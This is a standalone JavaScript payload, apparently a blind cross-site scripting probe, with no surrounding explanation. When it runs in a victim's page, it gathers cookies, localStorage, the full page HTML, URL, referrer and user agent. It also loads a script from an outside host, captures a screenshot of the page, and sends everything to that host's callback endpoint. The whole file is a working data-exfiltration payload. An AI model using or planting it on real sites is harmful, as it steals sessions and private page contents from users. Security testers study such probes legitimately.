(function () {
  var base = "https://c.probe-desk.example/js_callback";
  var report = {};
  function safe(fn) { try { return fn(); } catch (e) { return ""; } }
  report.uri = safe(function () { return location.toString(); });
  report.referer = safe(function () { return document.referrer; });
  report.cookies = safe(function () { return document.cookie; });
  report.agent = safe(function () { return navigator.userAgent; });
  report.dom = safe(function () { return document.documentElement.outerHTML; });
  report.origin = safe(function () { return location.origin; });
  report.storage = safe(function () { return JSON.stringify(window.localStorage); });
  report.framed = window.top !== window;
  function deliver() {
    var x = new XMLHttpRequest();
    x.open("POST", base, true);
    x.setRequestHeader("Content-Type", "text/plain");
    x.send(JSON.stringify(report));
  }
  var s = document.createElement("script");
  s.src = "https://c.probe-desk.example/lib/html2canvas.min.js";
  s.onload = function () {
    html2canvas(document.body).then(function (canvas) {
      report.screenshot = canvas.toDataURL("image/jpeg", 0.6);
      deliver();
    }, deliver);
  };
  s.onerror = deliver;
  document.head.appendChild(s);
})();
